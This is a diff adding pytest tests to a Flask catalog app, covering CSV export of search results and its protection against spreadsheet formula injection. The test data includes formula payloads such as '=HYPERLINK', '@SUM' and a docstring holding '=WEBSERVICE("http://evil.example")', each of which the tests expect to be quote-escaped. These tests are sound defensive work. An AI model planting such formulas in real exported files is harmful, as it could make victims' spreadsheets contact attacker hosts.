@@ -1,9 +1,19 @@
+import csv
+import io
 import re
 from html import unescape
 
+import pytest
+from flask import Flask
 from flask.testing import FlaskClient
 
 from headwater_catalog.query import FIELDS
+from headwater_catalog.repositories import add_repository
+from headwater_catalog.scan import scan
+from headwater_catalog.store.database import Database
+from headwater_web.app import create_app
+from headwater_web.spreadsheets import csv_answer
+from support.demo_catalog import settings_in
 
 
 def test_the_page_explains_every_term_of_the_language(client: FlaskClient):
@@ -30,6 +40,67 @@ def test_a_query_may_look_at_another_moment_and_compare_with_a_base(client: Flas
     assert re.search(r"\d+ features in ", then)
     assert re.search(r"\d+ features? in ", new)
     assert "none is given" in client.get("/search?q=new:feature&repo=demo").text
+
+
+def _rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(text.splitlines()))
+
+
+def test_the_table_has_just_what_the_page_counts(client: FlaskClient):
+    for query in ("", "q=spend", "q=owner:nobody", "q=spend&repo=demo&at=v1.0"):
+        page = client.get(f"/search?{query}").text
+        counted = re.search(r"([\d,]+) features? in ", page)
+        assert counted
+        answer = client.get(f"/search.csv?{query}")
+        assert answer.mimetype == "text/csv"
+        assert "attachment" in answer.headers["Content-Disposition"]
+        assert len(_rows(answer.text)) == int(counted[1])
+    assert client.get("/search.csv?q=ownr:x").status_code == 400
+
+
+@pytest.mark.parametrize("text", ["=HYPERLINK(1)", "+1", "-1", "@SUM(1)", "\t=1", "\r=1"])
+def test_a_table_holds_no_formulas(text: str):
+    with Flask("table").test_request_context():
+        answer = csv_answer("table", ("a", "b", "c"), [(text, -1, None)])
+
+    ((_, (said, number, nothing)),) = [
+        tuple(csv.reader(io.StringIO(answer.get_data(as_text=True), newline="")))
+    ]
+    assert (said, number, nothing) == (f"'{text}", "-1", "")
+
+
+def test_what_stands_in_a_docstring_is_no_formula_in_the_table(tmp_path, git_repo):
+    source = 'def sales(x: int) -> int:\n    """=WEBSERVICE("http://evil.example")"""\n    return x\n'
+    git_repo.commit("One", files={"features/sales.py": source})
+    settings = settings_in(tmp_path / "home")
+    database = Database(settings.database_url)
+    database.upgrade()
+    with database.write() as session:
+        add_repository(session, "shop", str(git_repo.path), 0)
+    scan(database, settings, "shop")
+    (row,) = _rows(create_app(settings, database).test_client().get("/search.csv").text)
+    database.dispose()
+
+    assert row["summary"].startswith("'=WEBSERVICE")
+
+
+def test_a_name_that_is_gone_leads_to_where_it_was(client: FlaskClient):
+    gone = re.findall(r'data-hit href="/r/demo/f/([^"?]*:(\w+))\?at=(\w{40})"', _gone_page(client))
+    assert gone
+    names = [(key, name, sha) for key, name, sha in gone if "0 features in" in _found(client, name)]
+    assert names, "every name that is gone is there again"
+    for key, name, sha in names:
+        page = client.get(f"/search?q={name}").text
+        assert "It is gone" in page
+        assert f"/r/demo/f/{key}?at={sha}" in unescape(page)
+
+
+def _gone_page(client: FlaskClient) -> str:
+    return unescape(client.get("/search?q=removed:<100y&repo=demo").text)
+
+
+def _found(client: FlaskClient, name: str) -> str:
+    return client.get(f"/search?q={name}").text
 
 
 def test_a_feature_that_is_gone_is_shown_at_its_last_commit(client: FlaskClient):
